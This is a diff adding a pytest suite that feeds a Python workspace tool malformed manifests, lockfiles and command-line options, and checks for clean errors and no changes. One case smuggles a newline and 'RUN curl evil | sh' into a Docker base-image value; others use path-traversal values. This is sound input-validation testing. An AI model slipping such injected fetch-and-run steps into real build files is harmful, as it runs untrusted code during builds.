@@ -1,0 +1,930 @@
+"""Bad input: a clear error (exit 2, naming the file and the key or option), and nothing
+changed. Each case starts from one small, valid workspace (tests/fixtures/trust) and
+breaks one thing in it, the way a user, a merge or an attacker would."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import Run
+
+BASE = Path(__file__).parent / "fixtures" / "trust"
+CORE = "packages/core/pyproject.toml"
+API = "packages/api/pyproject.toml"
+
+
+@dataclass(frozen=True)
+class Link:
+    target: str
+
+
+@dataclass(frozen=True)
+class Dir:
+    pass
+
+
+Edit = str | bytes | None | Link | Dir | Callable[[str], str]
+
+
+def sub(old: str, new: str) -> Callable[[str], str]:
+    def edit(text: str) -> str:
+        assert old in text, f"the fixture no longer holds {old!r}"
+        return text.replace(old, new, 1)
+
+    return edit
+
+
+def subs(*pairs: tuple[str, str]) -> Callable[[str], str]:
+    def edit(text: str) -> str:
+        for old, new in pairs:
+            text = sub(old, new)(text)
+        return text
+
+    return edit
+
+
+def append(extra: str) -> Callable[[str], str]:
+    return lambda text: text + extra
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    changes: dict[str, Edit]
+    argv: tuple[str, ...]
+    says: tuple[str, ...]  # what the error must name: the file, the key or option, the fix
+    git: bool = False
+    extra: dict[str, str] = field(default_factory=dict)
+
+
+def snapshot(root: Path) -> dict[str, object]:
+    """Every entry below root: a file's bytes, a link's target, a directory's mark."""
+    out: dict[str, object] = {}
+    for base, dirs, files in os.walk(root):
+        for name in dirs + files:
+            path = Path(base) / name
+            rel = path.relative_to(root).as_posix()
+            if path.is_symlink():
+                out[rel] = ("link", os.readlink(path))
+            elif path.is_dir():
+                out[rel] = "dir"
+            else:
+                out[rel] = path.read_bytes()
+        dirs[:] = [d for d in dirs if not (Path(base) / d).is_symlink() and d != ".git"]
+    return out
+
+
+def make(tmp: Path, changes: dict[str, Edit], git: bool = False) -> Path:
+    root = tmp / "repo"
+    shutil.copytree(BASE, root)
+    for rel, change in changes.items():
+        path = root / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if change is None:
+            path.unlink()
+        elif isinstance(change, Link):
+            if path.exists() or path.is_symlink():
+                shutil.rmtree(path) if path.is_dir() else path.unlink()
+            path.symlink_to(change.target)
+        elif isinstance(change, Dir):
+            if path.exists():
+                path.unlink()
+            path.mkdir()
+        elif isinstance(change, bytes):
+            path.write_bytes(change)
+        elif isinstance(change, str):
+            path.write_text(change)
+        else:
+            path.write_text(change(path.read_text()))
+    if git:
+        import subprocess
+
+        for args in (
+            ["init", "-q"],
+            ["add", "-A"],
+            ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base"],
+        ):
+            subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
+    return root
+
+
+def poetry(body: str, name: str = '"p"') -> str:
+    """packages/p/pyproject.toml of a Poetry package."""
+    return f'[tool.poetry]\nname = {name}\nversion = "1"\n{body}'
+
+
+def app_table(extra: str) -> Callable[[str], str]:
+    return sub('command = "python -m api"', f'command = "python -m api"\n{extra}')
+
+
+CASES = [
+    # --- the root manifest -----------------------------------------------------------------
+    Case(
+        "root-invalid-toml",
+        {"pyproject.toml": "[tool.uv.workspace\n"},
+        ("list",),
+        ("pyproject.toml:1", "invalid TOML"),
+    ),
+    Case(
+        "root-not-utf8",
+        {"pyproject.toml": b"\xff\xfe[tool]\n"},
+        ("list",),
+        ("pyproject.toml", "not UTF-8"),
+    ),
+    Case(
+        "root-is-a-directory",
+        {"pyproject.toml": Dir()},
+        ("list",),
+        ("pyproject.toml", "Is a directory"),
+    ),
+    Case(
+        "members-is-a-string",
+        {"pyproject.toml": sub('["packages/*"]', '"packages/*"')},
+        ("list",),
+        (
+            "pyproject.toml",
+            "tool.uv.workspace.members",
+            "expected an array of strings",
+            "found a string",
+        ),
+    ),
+    Case(
+        "members-holds-a-number",
+        {"pyproject.toml": sub('["packages/*"]', "[1]")},
+        ("list",),
+        ("pyproject.toml", "tool.uv.workspace.members[0]", "found an integer"),
+    ),
+    Case(
+        "exclude-is-a-string",
+        {
+            "pyproject.toml": sub(
+                'members = ["packages/*"]', 'members = ["packages/*"]\nexclude = "x"'
+            )
+        },
+        ("list",),
+        ("pyproject.toml", "tool.uv.workspace.exclude", "expected an array"),
+    ),
+    Case(
+        "workspace-is-a-string",
+        {
+            "pyproject.toml": sub(
+                '[tool.uv.workspace]\nmembers = ["packages/*"]', '[tool.uv]\nworkspace = "packages"'
+            )
+        },
+        ("list",),
+        ("pyproject.toml", "tool.uv.workspace", "expected a table"),
+    ),
+    Case(
+        "member-does-not-exist",
+        {"pyproject.toml": sub('["packages/*"]', '["packages/core", "packages/nope"]')},
+        ("list",),
+        ("pyproject.toml", "tool.uv.workspace.members", "packages/nope", "does not exist"),
+    ),
+    Case(
+        "glob-matches-nothing",
+        {"pyproject.toml": sub('["packages/*"]', '["libs/*"]')},
+        ("list",),
+        ("'libs/*' matches no directory", "tool.uv.workspace.members", "no member found"),
+    ),
+    Case(
+        "member-path-is-absolute",
+        {"pyproject.toml": sub('["packages/*"]', '["/etc"]')},
+        ("list",),
+        (
+            "pyproject.toml",
+            "tool.uv.workspace.members",
+            "'/etc'",
+            "relative path inside the repository",
+        ),
+    ),
+    Case(
+        "member-path-leaves-the-root",
+        {"pyproject.toml": sub('["packages/*"]', '["../x"]')},
+        ("list",),
+        ("pyproject.toml", "tool.uv.workspace.members", "'../x'"),
+    ),
+    Case(
+        "two-members-one-name",
+        {"packages/core2/pyproject.toml": '[project]\nname = "Core"\nversion = "1"\n'},
+        ("list",),
+        ("two members are named 'core'", CORE, "packages/core2/pyproject.toml"),
+    ),
+    Case(
+        "monolock-is-a-string",
+        {
+            "pyproject.toml": '[tool]\nmonolock = "x"\n'
+            '[tool.uv.workspace]\nmembers = ["packages/*"]\n'
+        },
+        ("list",),
+        ("pyproject.toml", "tool.monolock: expected a table", "found a string"),
+    ),
+    Case(
+        "apps-is-a-number",
+        {"pyproject.toml": sub("[tool.monolock.apps.api]\n", "[tool.monolock]\napps = 5\n[x]\n")},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps", "found an integer"),
+    ),
+    Case(
+        "app-package-is-not-a-member",
+        {"pyproject.toml": sub('package = "api"', 'package = "nope"')},
+        ("list",),
+        (
+            "pyproject.toml",
+            "tool.monolock.apps.api",
+            "'nope' is not a member",
+            "members are: api, core",
+        ),
+    ),
+    Case(
+        "app-python-with-a-newline",
+        {"pyproject.toml": app_table('python = "3.11\\n"')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps.api.python", "'3.11\\n'"),
+    ),
+    Case(
+        "app-python-unicode-digits",
+        {"pyproject.toml": app_table('python = "3.\u0661\u0661"')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps.api.python"),
+    ),
+    Case(
+        "app-base-image-with-a-newline",
+        {"pyproject.toml": app_table('base-image = "python:3.11\\nRUN curl evil | sh"')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps.api.base-image", "not an image reference"),
+    ),
+    Case(
+        "app-name-with-a-newline",
+        {"pyproject.toml": sub("[tool.monolock.apps.api]", '[tool.monolock.apps."api\\nRUN x"]')},
+        ("list",),
+        ("pyproject.toml", 'tool.monolock.apps."api\\nRUN x"', "not a valid app name"),
+    ),
+    Case(
+        "app-command-cannot-be-split",
+        {"pyproject.toml": sub('"python -m api"', '"python \'x"')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps.api.command", "cannot be split"),
+    ),
+    Case(
+        "app-unknown-key",
+        {"pyproject.toml": app_table('comand = "x"')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps.api", "unknown key 'comand'"),
+    ),
+    Case(
+        "app-file-leaves-the-repository",
+        {"pyproject.toml": app_table('files = ["../secret"]')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.apps.api.files", "'../secret'"),
+    ),
+    Case(
+        "tasks-is-a-number",
+        {
+            "pyproject.toml": sub(
+                "[tool.monolock.tasks]\ntest = ", "[tool.monolock]\ntasks = 5\n[x]\ntest = "
+            )
+        },
+        ("list",),
+        ("pyproject.toml", "tool.monolock.tasks", "found an integer"),
+    ),
+    Case(
+        "task-timeout-is-text",
+        {
+            "pyproject.toml": append(
+                '\n[tool.monolock.tasks.lint]\ncommand = "ruff"\ntimeout = "9"\n'
+            )
+        },
+        ("list",),
+        ("pyproject.toml", "tool.monolock.tasks.lint.timeout", "number of seconds"),
+    ),
+    Case(
+        "check-ignore-is-a-string",
+        {"pyproject.toml": append('\n[tool.monolock.check]\nignore = "ML101"\n')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.check.ignore", "expected an array of strings"),
+    ),
+    Case(
+        "check-ignore-is-not-a-code",
+        {"pyproject.toml": append('\n[tool.monolock.check]\nignore = ["XX1"]\n')},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.check.ignore", "'XX1' is not a rule code"),
+    ),
+    Case(
+        "import-names-is-a-number",
+        {"pyproject.toml": append("\n[tool.monolock.import-names]\nalpha = 5\n")},
+        ("list",),
+        ("pyproject.toml", "tool.monolock.import-names.alpha", "found an integer"),
+    ),
+    # --- a member's manifest ----------------------------------------------------------------
+    Case(
+        "dependencies-is-a-string",
+        {CORE: sub('["alpha>=1"]', '"alpha>=1"')},
+        ("list",),
+        (
+            CORE,
+            "project.dependencies",
+            "expected an array of PEP 508 requirement strings",
+            "found a string",
+        ),
+    ),
+    Case(
+        "dependency-is-a-number",
+        {CORE: sub('["alpha>=1"]', "[1]")},
+        ("list",),
+        (CORE, "project.dependencies[0]", "found an integer"),
+    ),
+    Case(
+        "dependency-is-not-pep508",
+        {CORE: sub('"alpha>=1"', '"alpha >>= 1"')},
+        ("list",),
+        (CORE, "project.dependencies[0]", "not a valid PEP 508 requirement"),
+    ),
+    Case(
+        "extras-is-an-array",
+        {
+            API: subs(
+                ('[project.optional-dependencies]\nfast = ["gamma>=1"]', ""),
+                ('"beta>=1"]', '"beta>=1"]\noptional-dependencies = ["x"]'),
+            )
+        },
+        ("list",),
+        (API, "project.optional-dependencies", "found an array"),
+    ),
+    Case(
+        "extra-is-a-string",
+        {API: sub('fast = ["gamma>=1"]', 'fast = "gamma>=1"')},
+        ("list",),
+        (API, "project.optional-dependencies.fast", "found a string"),
+    ),
+    Case(
+        "extra-name-with-a-space",
+        {API: sub("fast = [", '"fa st" = [')},
+        ("list",),
+        (API, "'fa st' is not a valid extra name"),
+    ),
+    Case(
+        "groups-is-an-array",
+        {
+            API: lambda t: (
+                'dependency-groups = ["x"]\n'
+                + sub('[dependency-groups]\ndev = ["gamma>=1"]', "")(t)
+            )
+        },
+        ("list",),
+        (API, "dependency-groups", "expected a table of groups", "found an array"),
+    ),
+    Case(
+        "group-is-a-string",
+        {API: sub('dev = ["gamma>=1"]', 'dev = "gamma"')},
+        ("list",),
+        (API, "dependency-groups.dev", "found a string"),
+    ),
+    Case(
+        "include-group-is-a-number",
+        {API: sub('dev = ["gamma>=1"]', "dev = [{include-group = 5}]")},
+        ("list",),
+        (API, "dependency-groups.dev[0].include-group", "found an integer"),
+    ),
+    Case(
+        "include-group-names-nothing",
+        {API: sub('dev = ["gamma>=1"]', 'dev = [{include-group = "lint"}]')},
+        ("list",),
+        (API, "dependency-groups.dev", "includes unknown group 'lint'"),
+    ),
+    Case(
+        "include-group-cycle",
+        {
+            API: sub(
+                'dev = ["gamma>=1"]', 'dev = [{include-group = "b"}]\nb = [{include-group = "dev"}]'
+            )
+        },
+        ("list",),
+        (API, "include-group cycle"),
+    ),
+    Case(
+        "requires-python-is-a-number",
+        {CORE: sub('requires-python = ">=3.11"', "requires-python = 5")},
+        ("list",),
+        (CORE, "project.requires-python", "found an integer"),
+    ),
+    Case(
+        "requires-python-is-not-pep440",
+        {CORE: sub('requires-python = ">=3.11"', 'requires-python = ">=3.11,<<4"')},
+        ("list",),
+        (CORE, "project.requires-python", "not a PEP 440 specifier"),
+    ),
+    Case(
+        "name-is-a-number",
+        {CORE: sub('name = "core"', "name = 5")},
+        ("list",),
+        (CORE, "project.name", "found an integer"),
+    ),
+    Case(
+        "name-is-not-ascii",
+        {CORE: sub('name = "core"', 'name = "cöre"')},
+        ("list",),
+        (CORE, "project.name", "'cöre' is not a valid distribution name"),
+    ),
+    Case(
+        "name-with-a-quote",
+        {CORE: sub('name = "core"', "name = 'co\"re'")},
+        ("list",),
+        (CORE, "project.name", "is not a valid distribution name"),
+    ),
+    Case(
+        "name-with-a-newline",
+        {CORE: sub('name = "core"', 'name = "core\\nx"')},
+        ("list",),
+        (CORE, "project.name", "'core\\nx'"),
+    ),
+    Case(
+        "version-is-a-float",
+        {CORE: sub('version = "0.1.0"', "version = 0.1")},
+        ("list",),
+        (CORE, "project.version", "found a float"),
+    ),
+    Case(
+        "dynamic-is-a-string",
+        {CORE: sub('version = "0.1.0"', 'version = "0.1.0"\ndynamic = "x"')},
+        ("list",),
+        (CORE, "project.dynamic", "expected an array of strings"),
+    ),
+    Case(
+        "source-is-a-string",
+        {API: sub("core = { workspace = true }", 'core = "workspace"')},
+        ("list",),
+        (API, "tool.uv.sources.core", "found a string"),
+    ),
+    Case(
+        "source-flag-is-text",
+        {API: sub("workspace = true", 'workspace = "yes"')},
+        ("list",),
+        (API, "tool.uv.sources.core.workspace", "expected true or false"),
+    ),
+    Case(
+        "index-is-a-table",
+        {API: append('\n[tool.uv.index]\nurl = "https://x"\n')},
+        ("list",),
+        (API, "tool.uv.index", "expected an array of tables", "found a table"),
+    ),
+    Case(
+        "workspace-source-names-no-member",
+        {
+            API: sub(
+                'dependencies = ["core", "beta>=1"]', 'dependencies = ["core", "beta>=1", "nope"]'
+            ),
+            "pyproject.toml": append("\n[tool.uv.sources]\nnope = { workspace = true }\n"),
+        },
+        ("list",),
+        (API, "dependency 'nope' has a workspace source, but no member", "members are: api, core"),
+    ),
+    Case(
+        "path-source-leaves-the-repository",
+        {API: sub("core = { workspace = true }", 'core = { path = "../../.." }')},
+        ("list",),
+        (API, "dependency 'core' has path '../../..'", "outside the repository"),
+    ),
+    Case(
+        "member-invalid-toml",
+        {CORE: append("[project\n")},
+        ("list",),
+        (f"{CORE}:10", "invalid TOML"),
+    ),
+    Case("member-manifest-is-a-directory", {CORE: Dir()}, ("list",), (CORE, "Is a directory")),
+    Case(
+        "member-is-a-symlink-loop",
+        {
+            "pyproject.toml": sub('["packages/*"]', '["packages/core", "packages/loop"]'),
+            "packages/loop": Link("loop"),
+        },
+        ("list",),
+        ("pyproject.toml", "tool.uv.workspace.members", "symlink loop"),
+    ),
+    Case(
+        "path-source-is-a-symlink-loop",
+        {
+            API: sub("core = { workspace = true }", 'core = { path = "../loop" }'),
+            "packages/loop": Link("loop"),
+        },
+        ("list",),
+        (API, "dependency 'core'", "symlink loop"),
+    ),
+    # --- uv.lock ------------------------------------------------------------------------------
+    Case(
+        "lock-is-a-directory",
+        {"uv.lock": Dir()},
+        ("export", "api"),
+        ("uv.lock", "cannot read the lockfile", "monolock lock"),
+    ),
+    Case(
+        "lock-invalid-toml",
+        {"uv.lock": append("[[package]\n")},
+        ("export", "api"),
+        ("uv.lock", "unreadable lockfile", "monolock lock"),
+    ),
+    Case(
+        "lock-not-utf8",
+        {"uv.lock": b"version = 1\n\xff\n"},
+        ("export", "api"),
+        ("uv.lock", "unreadable lockfile"),
+    ),
+    Case(
+        "lock-manifest-is-a-number",
+        {"uv.lock": sub("[manifest]\nmembers", "manifest = 1\n[x]\nm")},
+        ("export", "api"),
+        ("uv.lock", "manifest: expected a table", "monolock lock"),
+    ),
+    Case(
+        "lock-requires-python-is-a-number",
+        {"uv.lock": sub('requires-python = ">=3.11"', "requires-python = 5")},
+        ("export", "api"),
+        ("uv.lock", "requires-python: expected a string, found an integer"),
+    ),
+    Case(
+        "lock-version-is-text",
+        {"uv.lock": sub("version = 1\n", 'version = "1"\n')},
+        ("export", "api"),
+        ("uv.lock", "version: expected an integer"),
+    ),
+    Case(
+        "lock-version-2",
+        {"uv.lock": sub("version = 1\n", "version = 2\n")},
+        ("export", "api"),
+        ("uv.lock", "lockfile version 2", "not one this monolock reads"),
+    ),
+    Case(
+        "lock-revision-99",
+        {"uv.lock": sub("revision = 3", "revision = 99")},
+        ("why", "alpha"),
+        ("uv.lock", "revision 99", "upgrade monolock"),
+    ),
+    Case(
+        "lock-without-version",
+        {"uv.lock": sub("version = 1\nrevision = 3\n", "")},
+        ("export", "api"),
+        ("uv.lock", "version: missing"),
+    ),
+    Case(
+        "lock-packages-is-a-string",
+        {
+            "uv.lock": lambda t: t.split("[[package]]")[0].replace(
+                "[manifest]", 'package = "x"\n[manifest]'
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", "package: expected an array of package tables"),
+    ),
+    Case(
+        "lock-name-is-a-number",
+        {"uv.lock": sub('name = "alpha"', "name = 3")},
+        ("export", "api"),
+        ("uv.lock", "package[0].name", "found an integer"),
+    ),
+    Case(
+        "lock-package-without-name",
+        {"uv.lock": sub('name = "alpha"\n', "")},
+        ("export", "api"),
+        ("uv.lock", "package[0].name: missing"),
+    ),
+    Case(
+        "lock-package-without-source",
+        {"uv.lock": sub('source = { registry = "https://pypi.org/simple" }\nwheels', "wheels")},
+        ("export", "api"),
+        ("uv.lock", "package[0].source: missing"),
+    ),
+    Case(
+        "lock-source-is-a-string",
+        {
+            "uv.lock": sub(
+                'source = { registry = "https://pypi.org/simple" }\nwheels',
+                'source = "pypi"\nwheels',
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", "package[0].source", "found a string"),
+    ),
+    Case(
+        "lock-source-of-unknown-kind",
+        {
+            "uv.lock": sub(
+                'source = { registry = "https://pypi.org/simple" }\nwheels',
+                'source = { ftp = "x" }\nwheels',
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", "package[0] (alpha).source", "unrecognised source"),
+    ),
+    Case(
+        "lock-dependencies-is-a-string",
+        {"uv.lock": sub('dependencies = [\n    { name = "alpha" },\n]', 'dependencies = "alpha"')},
+        ("export", "api"),
+        ("uv.lock", ".dependencies", "found a string"),
+    ),
+    Case(
+        "lock-dependency-is-a-string",
+        {
+            "uv.lock": sub(
+                'dependencies = [\n    { name = "alpha" },\n]', 'dependencies = ["alpha"]'
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", ".dependencies[0]", "found a string"),
+    ),
+    Case(
+        "lock-wheels-is-a-number",
+        {
+            "uv.lock": lambda t: t.replace(
+                'wheels = [\n    { url = "https://files.example.org/alpha',
+                'wheels = 1\nx = [\n    { url = "https://files.example.org/alpha',
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", "package[0].wheels", "found an integer"),
+    ),
+    Case(
+        "lock-with-conflict-markers",
+        {"uv.lock": lambda t: "<<<<<<< HEAD\n" + t + "=======\n" + t + ">>>>>>> branch\n"},
+        ("export", "api"),
+        ("uv.lock", "conflict markers", "monolock lock"),
+    ),
+    Case(
+        "lock-edge-into-nothing",
+        {
+            "uv.lock": sub(
+                'dependencies = [\n    { name = "alpha" },\n]',
+                'dependencies = [\n    { name = "alpha" },\n    { name = "zeta" },\n]',
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", "package 'core'", "names zeta", "damaged", "monolock lock"),
+    ),
+    Case(
+        "lock-edge-into-a-missing-version",
+        {"uv.lock": sub('{ name = "alpha", marker', '{ name = "alpha", version = "9.9", marker')},
+        ("why", "alpha"),
+        ("uv.lock", "package 'beta'", "names alpha 9.9"),
+    ),
+    Case(
+        "lock-invalid-marker",
+        {"uv.lock": sub("marker = \"sys_platform == 'linux'\"", 'marker = "sys_platform >>> 1"')},
+        ("export", "api"),
+        ("uv.lock", "marker", "'sys_platform >>> 1' is not a valid PEP 508"),
+    ),
+    Case(
+        "lock-lacks-the-member",
+        {
+            "uv.lock": sub(
+                'source = { editable = "packages/api" }',
+                'source = { registry = "https://pypi.org/simple" }',
+            )
+        },
+        ("export", "api"),
+        ("uv.lock", "'api' is not a member of the lock", "monolock lock"),
+    ),
+    # --- command-line values ----------------------------------------------------------------
+    Case("export-unknown-app", {}, ("export", "nope"), ("unknown app 'nope'", "apps: api")),
+    Case(
+        "export-unknown-extra",
+        {},
+        ("export", "api", "--extra", "nope"),
+        ("--extra nope", API, "its extras: fast"),
+    ),
+    Case(
+        "export-unknown-group",
+        {},
+        ("export", "api", "--group", "nope"),
+        ("--group nope", API, "its groups: dev"),
+    ),
+    Case("graph-unknown-app", {}, ("graph", "--app", "nope"), ("unknown app 'nope'",)),
+    Case("why-unknown-distribution", {}, ("why", "nope"), ("'nope' is not in uv.lock",)),
+    Case(
+        "shard-with-arabic-digits",
+        {},
+        ("run", "test", "--shard", "\u0661/\u0662"),
+        ("--shard '\u0661/\u0662'", "i/n"),
+    ),
+    Case("shard-with-superscripts", {}, ("run", "test", "--shard", "²/³"), ("--shard",)),
+    Case("shard-zero", {}, ("run", "test", "--shard", "0/2"), ("--shard '0/2'",)),
+    Case("shard-beyond-count", {}, ("run", "test", "--shard", "3/2"), ("--shard '3/2'",)),
+    Case(
+        "check-unknown-member",
+        {},
+        ("check", "-p", "nope", "--no-lock-check"),
+        ("unknown member 'nope'",),
+    ),
+    Case("run-unknown-member", {}, ("run", "test", "-p", "nope"), ("--package nope",)),
+    Case("run-unknown-task", {}, ("run", "nope"), ("no task 'nope'", "tasks: test")),
+    Case(
+        "export-into-a-path-under-a-file",
+        {},
+        ("export", "api", "-o", "uv.lock/req.txt"),
+        ("-o", "uv.lock is a file, not a directory"),
+    ),
+    Case(
+        "export-over-a-file-it-did-not-write",
+        {},
+        ("export", "api", "-o", CORE),
+        ("-o", CORE, "not written by monolock"),
+    ),
+    Case("export-into-git", {}, ("export", "api", "-o", ".git/req.txt"), ("-o", ".git")),
+    Case(
+        "build-out-at-the-root",
+        {},
+        ("build", "api", "--out", "."),
+        ("--out", "is or contains the repository root"),
+    ),
+    Case(
+        "build-out-at-a-member",
+        {},
+        ("build", "api", "--out", "packages/core"),
+        ("--out", "is or contains the member core"),
+    ),
+    Case(
+        "build-out-above-the-members",
+        {},
+        ("build", "api", "--out", "packages"),
+        ("--out", "is or contains the member"),
+    ),
+    Case(
+        "build-venv-at-the-root-with-pyvenv-cfg",
+        {"pyvenv.cfg": "home = /usr\n"},
+        ("build", "api", "--venv", "."),
+        ("--venv", "is or contains the repository root"),
+    ),
+    Case(
+        "build-venv-at-a-member-with-pyvenv-cfg",
+        {"packages/core/pyvenv.cfg": "home = /usr\n"},
+        ("build", "api", "--venv", "packages/core"),
+        ("--venv", "is or contains the member core"),
+    ),
+    Case(
+        "build-venv-inside-git",
+        {},
+        ("build", "api", "--venv", ".git/env"),
+        ("--venv", "lies inside a .git directory"),
+        git=True,
+    ),
+    Case(
+        "build-out-holding-tracked-files",
+        {"docs/guide.md": "# guide\n"},
+        ("build", "api", "--out", "docs"),
+        ("--out", "holds files git tracks (docs/guide.md)"),
+        git=True,
+    ),
+    Case(
+        "build-out-with-a-users-files",
+        {"ctx/notes.txt": "mine\n"},
+        ("build", "api", "--out", "ctx"),
+        ("--out", "not made by monolock as a build context"),
+    ),
+    Case(
+        "build-out-under-a-file",
+        {},
+        ("build", "api", "--out", "uv.lock/ctx"),
+        ("--out", "is a file, not a directory"),
+    ),
+    Case(
+        "build-python-with-a-newline",
+        {},
+        ("build", "api", "--out", "ctx", "--python", "3.11\n"),
+        ("--python", "expected a version like 3.12"),
+    ),
+    # --- Poetry packages ------------------------------------------------------------------------
+    Case(
+        "poetry-name-is-a-number",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry(
+                '[tool.poetry.dependencies]\npython = "^3.11"\n', name="5"
+            ),
+        },
+        ("list",),
+        ("packages/p/pyproject.toml", "tool.poetry.name", "found an integer"),
+    ),
+    Case(
+        "poetry-python-is-a-float",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry("[tool.poetry.dependencies]\npython = 3.11\n"),
+        },
+        ("list",),
+        ("packages/p/pyproject.toml", "tool.poetry.dependencies.python", "found a float"),
+    ),
+    Case(
+        "poetry-dependency-is-a-number",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry("[tool.poetry.dependencies]\nalpha = 5\n"),
+        },
+        ("list",),
+        (
+            "packages/p/pyproject.toml",
+            "tool.poetry.dependencies.alpha",
+            "a constraint string, a table or an array of tables",
+        ),
+    ),
+    Case(
+        "poetry-extras-is-a-string",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry(
+                '[tool.poetry.dependencies]\nalpha = { version = "^1", extras = "fast" }\n'
+            ),
+        },
+        ("list",),
+        (
+            "packages/p/pyproject.toml",
+            "tool.poetry.dependencies.alpha.extras",
+            "expected an array of strings",
+        ),
+    ),
+    Case(
+        "poetry-develop-is-text",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry(
+                '[tool.poetry.dependencies]\nq = { path = "../q", develop = "yes" }\n'
+            ),
+        },
+        ("list",),
+        (
+            "packages/p/pyproject.toml",
+            "tool.poetry.dependencies.q.develop",
+            "expected true or false",
+        ),
+    ),
+    Case(
+        "poetry-group-dependencies-is-an-array",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry("[tool.poetry.group.dev]\ndependencies = []\n"),
+        },
+        ("list",),
+        ("packages/p/pyproject.toml", "tool.poetry.group.dev.dependencies", "found an array"),
+    ),
+    Case(
+        "poetry-source-is-a-table",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry('[tool.poetry.source]\nname = "x"\n'),
+        },
+        ("list",),
+        ("packages/p/pyproject.toml", "tool.poetry.source", "found a table"),
+    ),
+    Case(
+        "poetry-constraint-is-not-a-constraint",
+        {
+            "pyproject.toml": "",
+            "packages/p/pyproject.toml": poetry('[tool.poetry.dependencies]\nalpha = "^^1"\n'),
+        },
+        ("list",),
+        ("packages/p/pyproject.toml", "tool.poetry.dependencies.alpha"),
+    ),
+    Case(
+        "no-project-at-all",
+        {"pyproject.toml": "", CORE: None, API: None},
+        ("list",),
+        ("no project here",),
+    ),
+]
+
+
+@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
+def test_bad_input_is_a_clear_error_and_changes_nothing(
+    case: Case, tmp_path: Path, cli: Callable[..., Run]
+) -> None:
+    root = make(tmp_path, case.changes, case.git)
+    before = snapshot(root)
+    cwd = Path.cwd()
+    os.chdir(root)  # relative path options are read from here, as a user types them
+    try:
+        result = cli("-C", root, *case.argv)
+    finally:
+        os.chdir(cwd)
+    assert result.code == 2, result.out + result.err
+    assert "internal error" not in result.err and "Traceback" not in result.err
+    for fragment in case.says:
+        assert fragment in result.err, f"{fragment!r} not in:\n{result.err}"
+    assert result.err.startswith(("error:", "warning:", "Usage:")), result.err
+    assert snapshot(root) == before  # nothing written, nothing lost, nothing left behind
+
+
+def test_the_base_workspace_is_good(tmp_path: Path, cli: Callable[..., Run]) -> None:
+    """The cases above fail because of what each breaks, not because the base is broken."""
+    root = make(tmp_path, {})
+    for argv in (
+        ("list",),
+        ("graph",),
+        ("export", "api"),
+        ("why", "alpha"),
+        ("export", "api", "--extra", "fast", "--group", "dev"),
+    ):
+        result = cli("-C", root, *argv)
+        assert result.code == 0, (argv, result.err)
+        assert "warning" not in result.err
